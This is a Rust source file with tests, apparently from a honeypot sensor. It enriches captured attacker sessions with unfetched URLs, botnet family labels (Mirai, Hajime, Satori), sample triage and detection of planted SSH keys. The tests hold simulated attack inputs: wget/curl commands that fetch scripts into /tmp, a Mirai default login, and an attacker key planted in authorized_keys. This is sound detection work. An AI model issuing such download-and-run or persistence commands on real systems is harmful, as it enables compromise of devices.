//! What the sensor adds to a session's own events, the same for every door: the
//! URLs named in command lines that no tool on the device fetched, the session's
//! family label (just before its end), and, for each file the session dropped, the
//! event that reports where it was stored and the triage of its bytes.
//!
//! Sans-IO, like the rest of the crate: events in, events out. Storing a sample and
//! triaging it are the edge's work (on a blocking thread; the bytes can be megabytes);
//! it hands the outcome to [`Enricher::file`].

use std::sync::Arc;
use std::time::SystemTime;

use busybait_events::{Event, EventKind, FileOrigin, Peer, SessionId};

use crate::classify::{Rules, SessionFacts};
use crate::triage::Triage;

/// What every session of a sensor shares: the family rules, the device's applet
/// names, Mirai's credential table.
#[derive(Clone, Debug)]
pub struct Context {
    /// Family rules (built-in, extended by the operator's).
    pub rules: Arc<Rules>,
    /// The device's applet names (a `/bin/busybox WORD` with such a word is no token).
    pub applets: Arc<[String]>,
    /// Mirai's 62 credentials.
    pub mirai_credentials: Arc<Vec<(Vec<u8>, Vec<u8>)>>,
    /// The exploits each source sent lately, across its sessions.
    pub source_exploits: Arc<crate::recent::SourceExploits>,
}

/// How the edge stored a dropped file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Stored {
    /// In the sample store (`duplicate` if those bytes were there already).
    Sample {
        /// SHA-256, hex.
        sha256: String,
        /// Where it lies (`samples/<sha256>`).
        outfile: String,
        /// Stored before.
        duplicate: bool,
    },
    /// Refused: the samples quota (bytes) is reached.
    OverQuota(u64),
    /// The store failed (logged by the edge).
    Failed,
}

/// One session's enrichment.
#[derive(Debug)]
pub struct Enricher {
    facts: SessionFacts,
    mirai_credentials: Arc<Vec<(Vec<u8>, Vec<u8>)>>,
    rules: Arc<Rules>,
    source_exploits: Arc<crate::recent::SourceExploits>,
}

impl Enricher {
    /// For a new session.
    pub fn new(context: &Context) -> Self {
        Self {
            facts: SessionFacts {
                applets: context.applets.clone(),
                ..SessionFacts::default()
            },
            mirai_credentials: context.mirai_credentials.clone(),
            rules: context.rules.clone(),
            source_exploits: context.source_exploits.clone(),
        }
    }

    /// The session's next event: returns it, preceded by what the sensor adds before
    /// it (at the session's end: the command-line URLs and the family label).
    pub fn event(&mut self, event: Event) -> Vec<Event> {
        self.observe(&event.kind);
        if let EventKind::Exploit { name, .. } = &event.kind {
            self.source_exploits
                .record(event.peer.src.ip(), name, event.time);
        }
        if !matches!(event.kind, EventKind::SessionEnd { .. }) {
            return vec![event];
        }
        let like = |kind| Event {
            time: event.time,
            session: event.session,
            peer: event.peer,
            kind,
        };
        let mut out: Vec<Event> = self
            .unfetched_urls()
            .into_iter()
            .map(|url| {
                like(EventKind::DownloadRequest {
                    tool: "command-line".into(),
                    url,
                })
            })
            .collect();
        self.facts.source_exploits = self.source_exploits.recent(event.peer.src.ip(), event.time);
        let label = self.rules.classify(&self.facts);
        out.push(like(EventKind::SessionFamily {
            family: label.family,
            sub_label: label.sub_label,
            confidence_pct: (label.confidence * 100.0).round() as u8,
            evidence: label.evidence,
        }));
        out.push(event);
        out
    }

    /// A file the session dropped, as the edge stored it, with its triage when the
    /// bytes were new: the events that report it.
    pub fn file(
        &mut self,
        at: (SystemTime, SessionId, Peer),
        path: &[u8],
        data: &[u8],
        origin: FileOrigin,
        stored: Stored,
        triage: Option<Triage>,
    ) -> Vec<Event> {
        let (time, session, peer) = at;
        let destfile = busybait_events::lossy(path);
        let planted = if path.ends_with(b"/.ssh/authorized_keys") {
            crate::sshkeys::planted(&destfile, data)
        } else {
            Vec::new()
        };
        self.facts.files.push(destfile.clone());
        let mut kinds = vec![match stored {
            Stored::Sample {
                sha256,
                outfile,
                duplicate,
            } => match origin {
                FileOrigin::Uploaded(filename) => EventKind::FileUpload {
                    filename,
                    outfile,
                    shasum: sha256,
                    destfile,
                    duplicate,
                },
                FileOrigin::Downloaded(url) => EventKind::FileDownload {
                    url: Some(url),
                    outfile,
                    shasum: sha256,
                    destfile,
                    duplicate,
                },
                FileOrigin::Written => EventKind::FileDownload {
                    url: None,
                    outfile,
                    shasum: sha256,
                    destfile,
                    duplicate,
                },
            },
            Stored::OverQuota(quota) => EventKind::LimitHit {
                limit: "samples_quota_bytes",
                value: quota,
            },
            Stored::Failed => EventKind::LimitHit {
                limit: "samples_store_error",
                value: 0,
            },
        }];
        if let Some(t) = triage {
            kinds.push(triage_event(&t));
            self.facts.triage.push(t);
        }
        kinds.extend(planted);
        kinds
            .into_iter()
            .map(|kind| Event {
                time,
                session,
                peer,
                kind,
            })
            .collect()
    }

    fn observe(&mut self, kind: &EventKind) {
        match kind {
            EventKind::CommandInput { input } => self.facts.commands.push(input.clone()),
            EventKind::DownloadRequest { url, .. } => self.facts.downloads.push(url.clone()),
            EventKind::ClientFingerprint { fingerprint } => {
                self.facts.fingerprint = Some(fingerprint.clone())
            }
            EventKind::ClientVersion { version } => self.facts.ssh_client = Some(version.clone()),
            EventKind::Exploit { name, .. } => self.facts.exploits.push(name.clone()),
            EventKind::LoginSuccess { username, password } => {
                let cred = (username.as_bytes().to_vec(), password.as_bytes().to_vec());
                self.facts.mirai_credential = self.mirai_credentials.contains(&cred);
            }
            _ => {}
        }
    }

    /// URLs in the command lines that no download tool asked for (a missing `curl`,
    /// a wrong syntax), in order, each once.
    fn unfetched_urls(&mut self) -> Vec<String> {
        let fetched: Vec<String> = self
            .facts
            .downloads
            .iter()
            .map(|u| normalize_url(u))
            .collect();
        let mut out: Vec<String> = Vec::new();
        for line in &self.facts.commands {
            for url in crate::triage::urls(line.as_bytes()) {
                let n = normalize_url(&url);
                if !fetched.contains(&n) && !out.iter().any(|o| normalize_url(o) == n) {
                    out.push(url);
                }
            }
        }
        self.facts.downloads.extend(out.iter().cloned());
        out
    }
}

/// The `busybait.sample.triage` event of a triage.
pub fn triage_event(t: &Triage) -> EventKind {
    EventKind::SampleTriage {
        shasum: t.sha256.clone(),
        size: t.size,
        kind: format!("{:?}", t.kind).to_ascii_lowercase(),
        arch: t
            .elf
            .as_ref()
            .and_then(|e| e.mirai_arch)
            .map(str::to_string),
        stripped: t.elf.as_ref().and_then(|e| e.stripped),
        upx: t.upx,
        upx_zeroed_header: t.upx_zeroed_header,
        entropy_milli: (t.entropy * 1000.0).round() as u32,
        sha1: t.sha1.clone(),
        md5: t.md5.clone(),
        mirai_key: t.mirai.as_ref().map(|m| m.key),
        c2: t
            .mirai
            .as_ref()
            .map(|m| {
                m.endpoints
                    .iter()
                    .map(|e| match e.port {
                        Some(p) => format!("{}:{p}", e.host),
                        None => e.host.clone(),
                    })
                    .collect()
            })
            .unwrap_or_default(),
        urls: t.urls.clone(),
    }
}

/// A URL without default ports and FTP user names, for comparing requests.
fn normalize_url(url: &str) -> String {
    let mut u = url.to_ascii_lowercase();
    if let Some(rest) = u.strip_prefix("ftp://") {
        if let Some((_, host)) = rest.split_once('@') {
            u = format!("ftp://{host}");
        }
    }
    for (scheme, port) in [("http://", ":80/"), ("tftp://", ":69/"), ("ftp://", ":21/")] {
        if u.starts_with(scheme) {
            u = u.replacen(port, "/", 1);
        }
    }
    u
}

#[cfg(test)]
mod tests {
    use super::*;
    use busybait_events::CloseReason;

    fn context() -> Context {
        Context {
            rules: Arc::new(Rules::builtin().unwrap()),
            applets: Arc::from(vec!["cat".to_string(), "echo".to_string()]),
            mirai_credentials: Arc::new(vec![(b"root".to_vec(), b"xc3511".to_vec())]),
            source_exploits: Arc::default(),
        }
    }

    fn at() -> (SystemTime, SessionId, Peer) {
        (
            SystemTime::UNIX_EPOCH,
            SessionId::from_u64(0xabc),
            Peer {
                src: "127.0.0.9:40000".parse().unwrap(),
                dst: "127.0.0.1:23".parse().unwrap(),
                protocol: busybait_events::Protocol::Telnet,
            },
        )
    }

    fn event(kind: EventKind) -> Event {
        let (time, session, peer) = at();
        Event {
            time,
            session,
            peer,
            kind,
        }
    }

    fn ids(events: &[Event]) -> Vec<&'static str> {
        events.iter().map(|e| e.kind.event_id()).collect()
    }

    #[test]
    fn a_session_end_brings_unfetched_urls_and_the_label_before_it() {
        let mut e = Enricher::new(&context());
        for kind in [
            EventKind::ClientFingerprint {
                fingerprint: crate::classify::MIRAI_FINGERPRINT.into(),
            },
            EventKind::LoginSuccess {
                username: "root".into(),
                password: "xc3511".into(),
            },
            EventKind::CommandInput {
                input: "cd /tmp; wget http://127.0.0.1/a.sh; curl -O http://127.0.0.1:80/b.sh"
                    .into(),
            },
            // The device's wget asked for the first one; nothing asked for the second.
            EventKind::DownloadRequest {
                tool: "wget".into(),
                url: "http://127.0.0.1/a.sh".into(),
            },
            EventKind::CommandInput {
                input: "/bin/busybox ECCHI".into(),
            },
        ] {
            assert_eq!(e.event(event(kind.clone())), vec![event(kind)]);
        }
        let end = e.event(event(EventKind::SessionEnd {
            reason: CloseReason::DeviceClosed,
        }));
        assert_eq!(
            ids(&end),
            [
                "busybait.download.request",
                "busybait.session.family",
                "busybait.session.end"
            ]
        );
        assert_eq!(
            end[0].kind,
            EventKind::DownloadRequest {
                tool: "command-line".into(),
                url: "http://127.0.0.1:80/b.sh".into(),
            }
        );
        let EventKind::SessionFamily { family, .. } = &end[1].kind else {
            panic!("{:?}", end[1]);
        };
        // The built-in rules: ECCHI alone is a Hajime candidate.
        assert_eq!(family, "hajime-candidate");
    }

    #[test]
    fn a_source_that_sends_satoris_exploit_pair_over_two_sessions_is_labelled_satori() {
        let context = context();
        let family_of = |exploit: &str| {
            let mut e = Enricher::new(&context);
            e.event(event(EventKind::Exploit {
                name: exploit.into(),
                cve: None,
                command: "cd /tmp; wget http://127.0.0.1/x".into(),
                urls: Vec::new(),
            }));
            let end = e.event(event(EventKind::SessionEnd {
                reason: CloseReason::DeviceClosed,
            }));
            let EventKind::SessionFamily {
                family, evidence, ..
            } = &end[end.len() - 2].kind
            else {
                panic!("{end:?}");
            };
            (family.clone(), evidence.clone())
        };
        // One exploit alone says nothing of the family.
        assert_eq!(family_of("huawei-hg532-upgrade").0, "unknown");
        // The same source's second connection completes the pair.
        let (family, evidence) = family_of("realtek-miniigd-portmapping");
        assert_eq!(family, "satori");
        assert_eq!(
            evidence,
            ["its source sent the exploits huawei-hg532-upgrade, realtek-miniigd-portmapping"]
        );
    }

    #[test]
    fn a_dropped_file_is_reported_where_stored_with_its_triage() {
        let mut e = Enricher::new(&context());
        let bytes = b"#!/bin/sh\nwget http://127.0.0.1/x\n";
        let t = crate::triage::triage(bytes);
        let sha = t.sha256.clone();
        let events = e.file(
            at(),
            b"/root/.ssh/authorized_keys",
            b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mdrfckr\n",
            FileOrigin::Written,
            Stored::Failed,
            None,
        );
        assert_eq!(
            events.iter().map(|e| e.kind.event_id()).collect::<Vec<_>>(),
            ["busybait.limit", "busybait.persistence.ssh_key"]
        );
        let EventKind::SshKeyPlanted {
            key_type,
            comment,
            fingerprint_sha256,
            ..
        } = &events[1].kind
        else {
            unreachable!()
        };
        assert_eq!(
            (key_type.as_str(), comment.as_str()),
            ("ssh-ed25519", "mdrfckr")
        );
        assert!(fingerprint_sha256.starts_with("SHA256:"));
        let events = e.file(
            at(),
            b"/tmp/x.sh",
            bytes,
            FileOrigin::Downloaded("http://127.0.0.1/x.sh".into()),
            Stored::Sample {
                sha256: sha.clone(),
                outfile: format!("samples/{sha}"),
                duplicate: false,
            },
            Some(t),
        );
        assert_eq!(
            ids(&events),
            ["cowrie.session.file_download", "busybait.sample.triage"]
        );
        let EventKind::SampleTriage { urls, kind, .. } = &events[1].kind else {
            panic!();
        };
        assert_eq!(kind, "script");
        assert_eq!(urls, &["http://127.0.0.1/x"]);
        // Over quota: a limit event, and no triage for bytes not stored.
        let events = e.file(
            at(),
            b"/tmp/y",
            b"",
            FileOrigin::Written,
            Stored::OverQuota(1024),
            None,
        );
        assert_eq!(
            events[0].kind,
            EventKind::LimitHit {
                limit: "samples_quota_bytes",
                value: 1024
            }
        );
        assert_eq!(
            e.facts.files,
            ["/root/.ssh/authorized_keys", "/tmp/x.sh", "/tmp/y"]
        );
    }
}
